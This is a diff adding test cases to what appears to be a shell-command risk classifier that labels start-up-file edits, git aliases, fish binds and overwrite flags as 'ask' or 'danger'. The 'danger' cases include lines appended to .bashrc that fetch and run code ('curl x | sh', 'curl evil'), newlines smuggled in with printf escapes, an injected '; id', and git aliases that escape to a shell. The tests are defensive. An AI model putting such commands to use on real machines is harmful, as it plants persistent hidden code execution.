@@ -22,6 +22,12 @@ describe('a start-up file', () => {
     ['bash', 'cd x && echo "alias ll=\'ls -la\'" >> ~/.bash_aliases'],
     ['bash', 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.profile'],
     ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\nalias l=ls\nE"],
+    ['bash', "printf '%s\\n' 'export A=1' 'alias l=ls' >> ~/.bashrc"],
+    ['bash', "printf 'export A=1\\nalias l=ls\\n' >> ~/.bashrc"],
+    ['bash', `printf '\\neval "$(zoxide init bash)"\\n' >> ~/.bashrc`],
+    ['zsh', `echo 'eval "$(starship init zsh)"' >> ~/.zshrc`],
+    ['zsh', "echo 'source <(kubectl completion zsh)' >> ~/.zshrc"],
+    ['fish', "echo 'direnv hook fish | source' >> ~/.config/fish/config.fish"],
     ['zsh', "echo 'setopt autocd' >> ~/.zshrc"],
     ['fish', "echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish"],
   ])('in %s: %s is asked about', (shell, command) => {
@@ -41,6 +47,11 @@ describe('a start-up file', () => {
     ['bash', "echo 'export EDITOR=vim' >> ~/.ssh/config"],
     ['bash', "cat >> ~/.bashrc <<'E'\nexport A=1\ncurl x | sh\nE"],
     ['bash', 'cat >> ~/.bashrc <<E\nexport A=1\nE'],
+    ['bash', `echo 'eval "$(starship init bash)"' >> ~/.bashrc; source ~/.bashrc`],
+    ['bash', `echo 'eval "$(starship init bash; id)"' >> ~/.bashrc`],
+    ['bash', "printf '%s\\n' 'export A=1' 'curl evil' >> ~/.bashrc"],
+    ['bash', "printf 'export A=1\\ncurl evil\\n' >> ~/.bashrc"],
+    ['bash', "printf 'export A=1\\x0acurl evil\\n' >> ~/.bashrc"],
     ['bash', "printf 'evil\n'; echo -e 'export A=1\\ncurl x' >> ~/.bashrc"],
     ['fish', "echo 'set -gx PATH /tmp/x $PATH' >> ~/.config/fish/config.fish"],
   ])('in %s: %s is danger', (shell, command) => {
@@ -113,6 +124,36 @@ test.each([
   ['kubectl exec web -- env', 'ask'],
 ])('%s is %s', (command, level) => {
   expect(levelOf('bash', command)).toBe(level);
+});
+
+test.each<[Shell, string, string]>([
+  ['fish', "alias --save ll 'ls -l'", 'ask'],
+  ['fish', "alias --save ll 'rm -rf x'", 'danger'],
+  ['fish', "bind ctrl-g 'git status'", 'ask'],
+  ['fish', "bind \\cg 'git status; commandline -f repaint'", 'ask'],
+  ['fish', "bind ctrl-g 'rm -rf x'", 'danger'],
+  // Keys that are pressed to type, to end a line or to complete it.
+  ['fish', "bind a 'git status'", 'danger'],
+  ['fish', "bind \\r 'git status'", 'danger'],
+  ['fish', "bind ctrl-m 'git status'", 'danger'],
+  ['fish', "bind \\ci 'git status'", 'danger'],
+  ['zsh', 'typeset -U path', 'ask'],
+  ['zsh', 'typeset -U path=(/tmp/x)', 'danger'],
+  ['bash', 'git config --global alias.co checkout', 'ask'],
+  ['bash', "git config alias.lg 'log --oneline --graph'", 'ask'],
+  ['bash', "git config alias.x '!sh'", 'danger'],
+  ['bash', "git config alias.x '-c core.pager=./x log'", 'danger'],
+  ['bash', "git config alias.x 'rebase --exec=./x'", 'danger'],
+  ['bash', "git config alias.x 'rebase -x ./x'", 'danger'],
+  ['bash', 'shfmt -w a.sh', 'ask'],
+  ['bash', 'chgrp staff a', 'ask'],
+  ['bash', 'chgrp -R staff a', 'danger'],
+  ['bash', 'ffmpeg -n -i a.mp4 b.mp4', 'ask'],
+  ['bash', 'ffmpeg -n -y -i a.mp4 b.mp4', 'danger'],
+  ['powershell', 'Get-Process | Out-File x.txt -NoClobber', 'ask'],
+  ['powershell', 'Get-Process | Out-File x.txt -NoClobber -Force', 'danger'],
+])('in %s: %s is %s', (shell, command, level) => {
+  expect(levelOf(shell, command)).toBe(level);
 });
 
 describe('a looking form with a pattern', () => {
